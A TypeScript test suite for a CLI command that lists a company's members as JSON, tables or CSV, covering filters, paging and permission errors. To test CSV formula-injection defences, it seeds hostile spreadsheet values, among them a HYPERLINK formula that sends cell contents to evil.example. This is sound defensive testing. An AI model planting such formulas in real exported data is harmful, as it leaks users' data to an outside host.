import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { run, type ListOptions } from '../../../src/commands/member/list.js';
import { restoreCell } from '../../../src/csv-cells.js';
import { deleteAccount } from '../../../src/domain/accounts.js';
import { ENGINES, failure, useFixture, type TestUser } from '../../helpers/services.js';

type Member = { email: string; firstName: string | null; lastName: string | null; role: string; status: string };

/** Cells a spreadsheet would run as a formula (OWASP), and their full-width forms. */
const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u;
/** E-mails Ned invites: cells a spreadsheet would run, or that look already escaped; =reg has an account. */
const HOSTILE = [
  '=cmd@example.com',
  '+1@example.com',
  '-x@example.com',
  "'quote@example.com",
  "'=y@example.com",
  "''@example.com",
  "'@example.com",
  '=reg@example.com',
];

/**
 * Three companies: Ann's Smith Company (TEAM) with one member of each kind, for exact
 * output and who may list; Zed's Zed Company (ENTERPRISE) of 2,500 members filled by SQL,
 * more than two pages (MEMBER_PAGE), for order, filters and paging; Ned's Nash Company of
 * e-mails and names a spreadsheet would run, for --csv. Process-level behaviour stays in
 * e2e: exit codes in e2e/member.test.ts, a closed pipe and sqld's response size in
 * e2e/lists.test.ts.
 */
describe.each(ENGINES)('member list run() on %s', (engine) => {
  const fx = useFixture(engine);
  let ann: TestUser, adm: TestUser, mgr: TestUser, des: TestUser, inv: TestUser, bob: TestUser, zed: TestUser;
  let sue: TestUser, gus: TestUser, ned: TestUser;
  let order: string[];
  let registered: Set<string>;

  beforeAll(async () => {
    const f = fx();
    [ann, adm, mgr, des, inv, bob, zed, sue, gus] = await f.registerAll([
      ['ann@example.com', 'Ann', 'Smith'],
      ['adm@example.com', 'Adam', 'Admin'],
      ['mgr@example.com', 'Meg', 'Manager'],
      ['des@example.com', 'Dee', 'Designer'],
      ['inv@example.com', 'Ivy', 'Invited'],
      ['bob@example.com', 'Bob', 'Jones'],
      ['zed@example.com', 'Zed', 'Zed'],
      ['sue@example.com', 'Sue', 'Staff'],
      ['gus@example.com', 'Gus', 'Green'],
    ]);
    await f.grantSupport(sue);
    await f.setPlan(ann.company.id, 'TEAM');
    await f.join(adm, ann, 'administrator');
    await f.join(mgr, ann, 'manager');
    await f.join(des, ann, 'designer');
    await f.invite(ann, ['inv@example.com'], 'manager');
    await f.invite(ann, ['p1@example.com'], 'designer');
    // Zed (an e-mail that sorts last: the OWNER still comes first) on ENTERPRISE, with
    // accounts and invitations whose e-mails interleave (37 is prime to 2,500).
    await f.setPlan(zed.company.id, 'ENTERPRISE');
    const total = 2500;
    const emails = await f.fillCompany(zed.company.id, {
      registered: 300,
      pending: 2200,
      email: (i) => `p${String((i * 37) % total).padStart(6, '0')}@example.com`,
    });
    order = ['zed@example.com', ...[...emails].sort()];
    registered = new Set(emails.slice(0, 300));
    // Gus is current in a company that is then deleted with its owner's account.
    const hal = await f.register('hal@example.com', 'Hal', 'Hill');
    await f.join(gus, hal, 'manager');
    await deleteAccount(f.services, hal.cred);
    // Ned's Nash Company: e-mails and names a spreadsheet would run. The registered one
    // accepts (a member's name is listed once ACTIVE); a stored name may hold what
    // validation refuses today (an older store): a leading tab.
    ned = await f.register('ned@example.com', 'Ned', 'Nash');
    const reg = await f.register('=reg@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)');
    await f.setPlan(ned.company.id, 'TEAM');
    await f.invite(ned, HOSTILE, 'DESIGNER');
    await f.switchTo(reg, ned.company.id);
    await f.sql(`UPDATE users SET last_name = :n WHERE email = '=reg@example.com'`, { n: '\t=1+1' });
  });

  const list = async (who: TestUser | undefined, o: Partial<ListOptions> & { tty?: boolean } = {}) => {
    const c = fx().call(who, { tty: o.tty ?? false });
    c.io.columns = 120;
    await run({ ...c.deps, csv: false, all: false, ...o, json: o.json ?? false });
    return { out: c.stdout(), err: c.stderr() };
  };
  const json = async (who: TestUser, o: Partial<ListOptions> = {}) =>
    JSON.parse((await list(who, { ...o, json: true })).out) as Member[];
  const emailsOf = async (who: TestUser, o: Partial<ListOptions> = {}) => (await json(who, o)).map((m) => m.email);

  it('--json: one array, the OWNER first then by e-mail, names null until accepted (INVITED, PENDING); nothing on stderr', async () => {
    const r = await list(ann, { json: true });
    expect(r.err).toBe('');
    expect(JSON.parse(r.out)).toEqual([
      { email: 'ann@example.com', firstName: 'Ann', lastName: 'Smith', role: 'OWNER', status: 'ACTIVE' },
      { email: 'adm@example.com', firstName: 'Adam', lastName: 'Admin', role: 'ADMINISTRATOR', status: 'ACTIVE' },
      { email: 'des@example.com', firstName: 'Dee', lastName: 'Designer', role: 'DESIGNER', status: 'ACTIVE' },
      // Ivy has an account but has not accepted: her name is not shown to whoever invited her.
      { email: 'inv@example.com', firstName: null, lastName: null, role: 'MANAGER', status: 'INVITED' },
      { email: 'mgr@example.com', firstName: 'Meg', lastName: 'Manager', role: 'MANAGER', status: 'ACTIVE' },
      { email: 'p1@example.com', firstName: null, lastName: null, role: 'DESIGNER', status: 'PENDING' },
    ]);
  });

  it('piped: tab-separated rows without a header; --csv: a header and the same rows, empty names for PENDING', async () => {
    expect((await list(ann)).out).toBe(
      [
        'ann@example.com\tAnn Smith\tOWNER\tACTIVE',
        'adm@example.com\tAdam Admin\tADMINISTRATOR\tACTIVE',
        'des@example.com\tDee Designer\tDESIGNER\tACTIVE',
        'inv@example.com\t\tMANAGER\tINVITED',
        'mgr@example.com\tMeg Manager\tMANAGER\tACTIVE',
        'p1@example.com\t\tDESIGNER\tPENDING',
        '',
      ].join('\n'),
    );
    const csv = await list(ann, { csv: true, role: 'designer' });
    expect(csv).toEqual({
      out: 'email,firstName,lastName,role,status\ndes@example.com,Dee,Designer,DESIGNER,ACTIVE\np1@example.com,,,DESIGNER,PENDING\n',
      err: '',
    });
  });

  it('--csv: cells a spreadsheet would run are neutralised, and undoing the quoting gives back exactly what is stored', async () => {
    const stored = await json(ned);
    expect(stored.map((m) => m.email)).toEqual(['ned@example.com', ...[...HOSTILE].sort()]);
    const r = await list(ned, { csv: true });
    expect(r.err).toBe('');
    const rows: string[][] = parse(r.out);
    expect(rows[0]).toEqual(['email', 'firstName', 'lastName', 'role', 'status']);
    for (const cell of rows.slice(1).flat()) expect(cell, cell).not.toMatch(FORMULA);
    expect(rows.slice(1).map((row) => row.map(restoreCell))).toEqual(
      stored.map((m) => [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status]),
    );
    expect(
      r.out.endsWith(
        `\n'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,ACTIVE\n`,
      ),
    ).toBe(true);
  });

  it('filters by role and status in any case; the OWNER is listed only when the filter admits them', async () => {
    expect(await emailsOf(ann, { role: 'Manager' })).toEqual(['inv@example.com', 'mgr@example.com']);
    expect(await emailsOf(ann, { status: 'pending' })).toEqual(['p1@example.com']);
    expect(await emailsOf(ann, { role: 'MANAGER', status: 'INVITED' })).toEqual(['inv@example.com']);
    expect(await emailsOf(ann, { role: 'owner' })).toEqual(['ann@example.com']);
    expect(await emailsOf(ann, { status: 'ACTIVE', role: 'designer' })).toEqual(['des@example.com']);
    expect(await failure(list(ann, { status: 'gone' }))).toMatchObject({
      code: 'INVALID_INPUT',
      exitCode: 2,
      message: 'Unknown status "gone": use one of ACTIVE, INVITED, PENDING.',
    });
    expect(await failure(list(ann, { role: 'boss' }))).toMatchObject({
      code: 'INVALID_INPUT',
      message: 'Unknown role "boss": use one of OWNER, ADMINISTRATOR, MANAGER, DESIGNER.',
    });
  });

  it('a company larger than a page: every member once, in order, as JSON, piped table and CSV', async () => {
    const all = await json(zed);
    expect(all.map((m) => m.email)).toEqual(order);
    expect(all[0]).toEqual({
      email: 'zed@example.com',
      firstName: 'Zed',
      lastName: 'Zed',
      role: 'OWNER',
      status: 'ACTIVE',
    });
    for (const m of all.slice(1)) {
      if (registered.has(m.email) && m.status === 'ACTIVE') expect(m.firstName, m.email).toMatch(/^Name\d+$/);
      else if (registered.has(m.email)) expect(m, m.email).toMatchObject({ firstName: null, status: 'INVITED' });
      else expect(m, m.email).toMatchObject({ firstName: null, lastName: null, status: 'PENDING' });
    }
    const table = await list(zed);
    expect(table.err).toBe('');
    expect(
      table.out
        .trimEnd()
        .split('\n')
        .map((l) => l.split('\t')[0]),
    ).toEqual(order);
    const csv = (await list(zed, { csv: true })).out.trimEnd().split('\n');
    expect(csv).toEqual([
      'email,firstName,lastName,role,status',
      ...all.map((m) => [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status].join(',')),
    ]);
  });

  it('filters across pages keep the order', async () => {
    const all = await json(zed);
    const pick = (f: (m: Member) => boolean) => all.filter(f).map((m) => m.email);
    expect(await emailsOf(zed, { role: 'administrator' })).toEqual(pick((m) => m.role === 'ADMINISTRATOR'));
    expect(await emailsOf(zed, { status: 'PENDING' })).toEqual(pick((m) => m.status === 'PENDING'));
    expect(await emailsOf(zed, { role: 'MANAGER', status: 'invited' })).toEqual(
      pick((m) => m.role === 'MANAGER' && m.status === 'INVITED'),
    );
  });

  it('--limit and --after: consecutive pages cover everyone exactly once; --after the OWNER starts over, in any case', async () => {
    const pages: string[] = [];
    let after: string | undefined;
    for (let i = 0; i < 10; i++) {
      const page = await emailsOf(zed, { limit: 900, after });
      if (page.length === 0) break;
      pages.push(...page);
      after = page.at(-1);
    }
    expect(pages).toEqual(order);
    expect(await emailsOf(zed, { limit: 1 })).toEqual(['zed@example.com']);
    expect(await emailsOf(zed, { limit: 2, after: 'ZED@example.com' })).toEqual(order.slice(1, 3));
    expect(await emailsOf(zed, { limit: 2, after: ` ${order[5]!.toUpperCase()} ` })).toEqual(order.slice(6, 8));
  });

  it('a limited table says on stderr how many more there are and how to continue', async () => {
    const r = await list(zed, { limit: 3 });
    expect(r.out.trimEnd().split('\n')).toHaveLength(3);
    expect(r.err).toBe(`… and 2,498 more members: add --after ${order[2]} for the next 3, or --all for every one.\n`);
    // JSON and CSV are data: no note, even when limited.
    expect((await list(zed, { limit: 3, json: true })).err).toBe('');
  });

  it('on a terminal: a header, the first 50 (the OWNER first), and how to see the rest on stderr', async () => {
    const r = await list(zed, { tty: true });
    const lines = r.out.trimEnd().split('\n');
    expect(lines).toHaveLength(51);
    expect(lines[0]).toMatch(/^EMAIL\s+NAME\s+ROLE\s+STATUS$/);
    expect(lines[1]).toMatch(/^zed@example\.com\s+Zed Zed\s+OWNER\s+ACTIVE$/);
    expect(lines[50]!.split(/\s+/)[0]).toBe(order[49]);
    expect(r.err).toBe(`… and 2,451 more members: add --after ${order[49]} for the next 50, or --all for every one.\n`);
    const next = await list(zed, { tty: true, after: order[49] });
    expect(next.out.trimEnd().split('\n')[1]!.split(/\s+/)[0]).toBe(order[50]);
  });

  it('--all on a terminal, piped, --json and --csv: everyone, and no note', async () => {
    for (const o of [{ tty: true, all: true }, { tty: false }, { tty: true, json: true }, { tty: false, csv: true }]) {
      const r = await list(zed, o);
      expect(r.err, JSON.stringify(o)).toBe('');
      if (o.json) expect(JSON.parse(r.out), JSON.stringify(o)).toHaveLength(2501);
      else expect(r.out.trimEnd().split('\n'), JSON.stringify(o)).toHaveLength(o.csv || o.tty ? 2502 : 2501);
    }
  });

  it('flags that contradict each other, and a --limit below 1, are usage errors (exit 2)', async () => {
    expect(await failure(list(ann, { limit: 5, all: true }))).toMatchObject({
      code: 'USAGE',
      exitCode: 2,
      message: '--all and --limit cannot be used together.',
    });
    expect(await failure(list(ann, { json: true, csv: true }))).toMatchObject({
      code: 'USAGE',
      message: '--json and --csv cannot be used together.',
    });
    for (const limit of [0, -1, Number.NaN])
      expect(await failure(list(ann, { limit }))).toMatchObject({
        code: 'INVALID_INPUT',
        exitCode: 2,
        message: '--limit must be a whole number of at least 1.',
      });
  });

  it('every member may list (MANAGER and DESIGNER too) and sees what the OWNER sees; SUPPORT any company by id', async () => {
    const owners = await json(ann);
    expect(owners).toHaveLength(6);
    for (const who of [adm, mgr, des]) expect(await json(who, { company: 'Smith Company' }), who.email).toEqual(owners);
    expect(await json(sue, { company: String(ann.company.id) })).toEqual(owners);
  });

  it('an invitation not accepted (exit 4), a company not yours (exit 5), no current company (exit 5), signed out (exit 3)', async () => {
    expect(await failure(list(inv, { company: 'Smith Company' }))).toMatchObject({
      code: 'PERMISSION_DENIED',
      exitCode: 4,
      message: `You are invited to "Smith Company" but have not accepted yet: switch to it first with \`platformctl company switch ${ann.company.id}\` (or leave it).`,
    });
    expect(await failure(list(bob, { company: String(ann.company.id) }))).toMatchObject({
      code: 'NOT_FOUND',
      exitCode: 5,
      message: `No company with id ${ann.company.id} among yours. See \`platformctl company list\`.`,
    });
    const none = await failure(list(gus));
    expect(none).toMatchObject({ code: 'NOT_FOUND', exitCode: 5 });
    expect(none.message).toMatch(/^You have no current company/);
    expect(await emailsOf(gus, { company: 'Green Company' })).toEqual(['gus@example.com']);
    expect(await failure(list(undefined))).toMatchObject({ code: 'AUTH_REQUIRED', exitCode: 3 });
  });
});
